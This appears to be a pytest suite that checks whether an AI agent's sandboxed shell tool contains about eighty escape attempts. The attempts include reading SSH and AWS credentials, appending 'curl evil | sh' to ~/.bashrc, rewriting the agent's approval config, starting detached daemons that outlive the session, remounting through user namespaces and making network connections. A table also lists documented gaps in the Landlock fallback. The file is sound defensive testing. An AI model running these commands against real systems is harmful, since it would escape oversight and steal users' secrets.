"""The sandbox escape corpus: attempts to get out of ``run_shell``'s sandbox, through the real
builtin MCP server, each checked against the outside world (files, metadata, a home with
credentials, a2ia's config and trust store, listening TCP/UDP/unix servers, a process).
Run against both backends: bubblewrap (0 may succeed) and the Landlock fallback (its known
gaps, ``LANDLOCK_GAPS``, skip with the reason; ``test_the_landlock_gaps_are_real`` checks them).

0 may succeed. Each must fail with the command's own error (a non-zero exit the model reads),
except where the command "works" only inside the sandbox (a private /dev/shm, a process that
is gone when the command ends): there the outside is checked unchanged. The world lives
under /var/tmp because the sandbox lets commands write the temp dir.
"""

from __future__ import annotations

import os
import sysconfig
import tempfile
import uuid
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest

from a2ia.tools.builtin import make_builtin_server
from a2ia.tools.registry import ToolRegistry
from a2ia.tools.workspace import Workspace
from a2ia.types import ToolCall

from sandbox_support import SECRET, World, outside_world, processes_with, require_sandbox, sandbox_for

pytestmark = pytest.mark.anyio

PY = "python3 -c"
CONNECT = PY + " \"import socket; s=socket.socket({family}); s.settimeout(3); s.connect({address}); s.send(b'x'); s.recv(1)\""

# (id, command, how it is judged): "error" = must fail and change nothing; "contained" = may
# exit 0, the outside must be unchanged; "gone" = may exit 0, no process of it may remain.
CORPUS: list[tuple[str, str, str]] = [
    # writes by absolute path
    ("abs-new", "echo x > {O}/new.txt", "error"),
    ("abs-append", "echo x >> {O}/target.txt", "error"),
    ("abs-cp", "cp README.md {O}/", "error"),
    ("abs-mkdir", "mkdir {O}/newdir", "error"),
    ("abs-rm", "rm {O}/target.txt", "error"),
    ("abs-truncate", "truncate -s0 {O}/target.txt", "error"),
    ("abs-python", PY + " \"open('{O}/target.txt', 'w').write('x')\"", "error"),
    ("abs-dd", "echo x | dd of={O}/target.txt", "error"),
    ("abs-tee", "echo x | tee {O}/new.txt", "error"),
    ("abs-sed", "sed -i s/original/changed/ {O}/target.txt", "error"),
    ("etc", "echo x > /etc/a2ia-{T}", "error"),
    ("etc-passwd-touch", "touch /etc/passwd", "error"),
    ("usr-local-bin", "echo 'echo pwned' > /usr/local/bin/a2ia-{T} && chmod +x /usr/local/bin/a2ia-{T}", "error"),
    ("python-stdlib", "echo 'import os' > {STDLIB}/a2ia_{T}.py", "error"),
    # relative paths and ..
    ("dotdot", "echo x > ../outside/new.txt", "error"),
    ("cd-up", "cd .. && touch escaped.txt", "error"),
    ("dotdot-deep", "echo x > $(pwd)/../outside/../outside/new.txt", "error"),
    # symlinks and hard links made inside, pointing out
    ("symlink-file", "ln -s {O}/target.txt link && echo x > link", "error"),
    ("symlink-dir", "ln -s {O} outlink && touch outlink/new.txt", "error"),
    ("symlink-root", "ln -s / rootlink && echo x > rootlink{O}/new.txt", "error"),
    ("symlink-python", PY + " \"import os; os.symlink('{O}/target.txt', 'l2'); open('l2', 'a').write('x')\"", "error"),
    ("hardlink", "ln {O}/target.txt hard && echo x >> hard", "error"),
    ("hardlink-python", PY + " \"import os; os.link('{O}/target.txt', 'hard2'); open('hard2', 'a').write('x')\"", "error"),
    # /proc and /dev/shm
    ("proc-self-root", "echo x > /proc/self/root{O}/target.txt", "error"),
    ("proc-1-root", "echo x > /proc/1/root{O}/new.txt", "error"),
    ("proc-self-root-read", "cat /proc/self/root{HOME}/.ssh/id_rsa", "error"),
    ("dev-shm", "echo x > /dev/shm/a2ia-{T} && ls /dev/shm/a2ia-{T}", "contained"),
    # rename and mv out
    ("mv-out", "mv README.md {O}/", "error"),
    ("rename-python", PY + " \"import os; os.rename('README.md', '{O}/moved.md')\"", "error"),
    ("mv-in", "mv {O}/target.txt ./stolen.txt", "error"),
    # metadata outside
    ("chmod", "chmod 777 {O}/target.txt", "error"),
    ("chmod-x", "chmod +x {O}/target.txt", "error"),
    ("touch", "touch {O}/target.txt", "error"),
    ("touch-date", "touch -d 2000-01-01 {O}/target.txt", "error"),
    ("chown", "chown $(id -u):$(id -g) {O}/target.txt", "error"),
    ("xattr", PY + " \"import os; os.setxattr('{O}/target.txt', 'user.a2ia', b'1')\"", "error"),
    ("utime", PY + " \"import os; os.utime('{O}/target.txt', (0, 0))\"", "error"),
    # git outside the workspace
    ("git-config-global", "git config --global user.name evil", "error"),
    ("git-config-system", "GIT_CONFIG_SYSTEM={O}/gitconfig git config --system core.pager evil", "error"),
    ("gitconfig-append", "printf '[alias]\\n  st = !evil\\n' >> ~/.gitconfig", "error"),
    ("git-init-outside", "git init {O}/repo", "error"),
    # a2ia's own config and trust store
    ("trust-store-write", "echo '{{}}' > {CONFIG}/trusted_folders.json", "error"),
    ("config-write", "echo 'approval = \"yolo\"' > {CONFIG}/config.toml", "error"),
    ("config-rm", "rm {CONFIG}/config.toml", "error"),
    ("trust-store-read", "cat {CONFIG}/trusted_folders.json", "error"),
    ("config-via-proc", "echo x > /proc/self/root{CONFIG}/config.toml", "error"),
    # credentials
    ("ssh-key", "cat ~/.ssh/id_rsa", "error"),
    ("aws", "cat ~/.aws/credentials", "error"),
    ("gnupg", "cat ~/.gnupg/secring.gpg", "error"),
    ("ssh-copy", "cp ~/.ssh/id_rsa ./stolen-key", "error"),
    ("bashrc", "echo 'curl evil | sh' >> ~/.bashrc", "error"),
    ("autostart", "mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/evil.desktop", "error"),
    # environment tricks
    ("ld-preload", "LD_PRELOAD=/nonexistent.so sh -c 'echo x > {O}/new.txt'", "error"),
    ("env-i", "env -i /bin/sh -c 'echo x > {O}/new.txt'", "error"),
    ("env-i-path", "env -i PATH=/usr/bin:/bin bash -c 'cp README.md {O}/'", "error"),
    ("remount-rw", "mount -o remount,rw /", "error"),
    ("userns-remount", "unshare -Urm sh -c 'mount -o remount,rw / && echo x > {O}/new.txt'", "error"),
    ("userns-bind", "mkdir m && unshare -Urm sh -c 'mount --bind {O} m && echo x > m/new.txt'", "error"),
    # processes that would outlive the command
    ("background", "sh -c 'sleep 300; : {T}' & echo started", "gone"),
    ("nohup", "nohup sh -c 'sleep 300; : {T}' >/dev/null 2>&1 & echo started", "gone"),
    ("setsid", "setsid sh -c 'sleep 300; : {T}' >/dev/null 2>&1 < /dev/null & echo started", "gone"),
    ("double-fork", "( (sh -c 'sleep 300; : {T}' &) & ) ; echo started", "gone"),
    ("python-daemon", PY + " \"import os, sys; os.fork() and sys.exit(); os.setsid(); os.fork() and sys.exit(); os.execvp('sh', ['sh', '-c', 'sleep 300; : {T}'])\"; echo started", "gone"),
    # other processes
    ("kill", "kill -9 {VICTIM}", "error"),
    ("kill-python", PY + " \"import os; os.kill({VICTIM}, 9)\"", "error"),
    ("proc-environ", "cat /proc/{VICTIM}/environ", "error"),
    ("strace", "strace -p {VICTIM} -e trace=none", "error"),
    # network
    ("tcp-python", CONNECT.format(family="", address="('127.0.0.1', {TCP})"), "error"),
    ("tcp-curl", "curl -sS --max-time 3 http://127.0.0.1:{TCP}/", "error"),
    ("tcp-bash", "bash -c 'echo x > /dev/tcp/127.0.0.1/{TCP}'", "error"),
    ("tcp6", CONNECT.format(family="socket.AF_INET6", address="('::1', {TCP6})"), "error"),
    ("udp", CONNECT.format(family="socket.AF_INET, socket.SOCK_DGRAM", address="('127.0.0.1', {UDP})"), "error"),
    ("dns", PY + " \"import socket; print(socket.getaddrinfo('pypi.org', 443))\"", "error"),
    ("internet", "curl -sS --max-time 3 https://pypi.org/", "error"),
    ("unix-socket", CONNECT.format(family="socket.AF_UNIX", address="'{UNIX}'"), "error"),
    ("unix-socket-tmp", CONNECT.format(family="socket.AF_UNIX", address="'{UNIXTMP}'"), "error"),
    ("unix-abstract", CONNECT.format(family="socket.AF_UNIX", address="'\\\\0{ABSTRACT}'"), "error"),
    ("unix-curl", "curl -sS --max-time 3 --unix-socket {UNIX} http://x/", "error"),
]


# What the Landlock fallback cannot stop (its module docstring; the README says so too):
# metadata changes outside, and a process that leaves the command's session outlives it
# (still confined). Each gets through there (checked below), and must not with bubblewrap.
METADATA = "Landlock does not mediate chmod, chown, utimes or xattrs"
OUTLIVES = "a process that setsids away outlives the command under Landlock (still confined)"
LANDLOCK_GAPS = {
    **dict.fromkeys(["etc-passwd-touch", "chmod", "chmod-x", "touch", "touch-date", "chown", "xattr", "utime"], METADATA),
    **dict.fromkeys(["nohup", "setsid", "python-daemon"], OUTLIVES),
    "dev-shm": "under Landlock /dev/shm is the real one, writable like the temp dir (multiprocessing needs it)",
}


STDLIB = sysconfig.get_paths()["stdlib"]  # Python's own library: outside any writable root (unlike a venv in /tmp)


def fill(command: str, world: World, token: str) -> str:
    return command.format(
        O=world.outside, HOME=world.home, CONFIG=world.config, T=token, STDLIB=STDLIB, VICTIM=world.victim.pid,
        TCP=world.tcp_port, TCP6=world.tcp6_port, UDP=world.udp_port, UNIX=world.unix_path,
        UNIXTMP=world.unix_tmp_path, ABSTRACT=world.abstract,
    )


@contextmanager
def cleaned_up(token: str):
    """Should an attempt ever get out, what it would leave on this machine is removed."""
    try:
        yield
    finally:
        for leftover in (f"/etc/a2ia-{token}", f"/usr/local/bin/a2ia-{token}", f"{STDLIB}/a2ia_{token}.py", f"/dev/shm/a2ia-{token}"):
            with suppress(OSError):
                os.unlink(leftover)


def test_the_corpus_is_large_enough() -> None:
    assert len(CORPUS) >= 60 and len({name for name, _, _ in CORPUS}) == len(CORPUS)


@pytest.mark.parametrize("backend", ["bwrap", "landlock"])
@pytest.mark.parametrize(("name", "command", "judged"), CORPUS, ids=[c[0] for c in CORPUS])
async def test_no_escape(name: str, command: str, judged: str, backend: str, monkeypatch: pytest.MonkeyPatch) -> None:
    require_sandbox(backend)
    if name == "python-stdlib" and STDLIB.startswith(tempfile.gettempdir()):
        pytest.skip("this Python lives in the temp dir, which sandboxed commands may write")
    if backend == "landlock" and name in LANDLOCK_GAPS:
        pytest.skip(f"a known gap of the Landlock fallback: {LANDLOCK_GAPS[name]}")
    from faults.fault_support import wait_for

    token = f"a2ia-{uuid.uuid4().hex[:12]}"
    with outside_world(monkeypatch) as world, cleaned_up(token):
        before = world.state()
        async with ToolRegistry() as registry:
            await registry.add_server("a2ia", make_builtin_server(Workspace(world.root), sandbox=sandbox_for(world.root, backend=backend)))
            canary = await registry.call(ToolCall(id="canary", name="run_shell", arguments={"command": f"echo x > {world.outside}/canary"}))
            assert canary.is_error and world.state() == before, "the sandbox does not confine: the corpus is not run"
            result = await registry.call(ToolCall(id="c", name="run_shell", arguments={"command": fill(command, world, token), "timeout_s": 30}))
        if judged == "error":
            assert result.is_error and result.content.strip(), f"{name} did not fail: {result.content}"
        if judged == "gone":
            wait_for(lambda: not processes_with(token), 5, f"the processes {name} left behind to be gone")
        assert SECRET not in result.content
        assert world.state() == before, f"{name} changed the outside world: {result.content}"
        assert world.reached() == [0] * len(world.listeners), f"{name} reached a server outside: {result.content}"
        assert world.victim.poll() is None, f"{name} killed a process outside"
        assert not any(token in entry for entry in os.listdir("/dev/shm")), f"{name} wrote the real /dev/shm"
        assert not Path(f"/usr/local/bin/a2ia-{token}").exists()
        assert SECRET not in "".join(p.read_text(errors="replace") for p in world.root.rglob("*") if p.is_file())


async def test_the_landlock_gaps_are_real(monkeypatch: pytest.MonkeyPatch) -> None:
    """The documented gaps exist as documented (if one closes, this fails and the docs follow),
    and even through them nothing is written outside nor reached on the network."""
    require_sandbox("landlock")
    with outside_world(monkeypatch) as world:
        async with ToolRegistry() as registry:
            await registry.add_server("a2ia", make_builtin_server(Workspace(world.root), sandbox=sandbox_for(world.root, backend="landlock")))
            before = (world.outside / "target.txt").stat()
            touched = await registry.call(ToolCall(id="t", name="run_shell", arguments={"command": f"touch -d 2000-01-01 {world.outside}/target.txt"}))
            chmod = await registry.call(ToolCall(id="c", name="run_shell", arguments={"command": f"chmod 600 {world.outside}/target.txt"}))
            written = await registry.call(ToolCall(id="w", name="run_shell", arguments={"command": f"echo x >> {world.outside}/target.txt"}))
        after = (world.outside / "target.txt").stat()
        assert not touched.is_error and not chmod.is_error, "a Landlock gap closed: update LANDLOCK_GAPS and the docs"
        assert after.st_mtime != before.st_mtime and (after.st_mode & 0o777) == 0o600
        assert written.is_error and (world.outside / "target.txt").read_text() == "original\n"
        assert world.reached() == [0] * len(world.listeners)
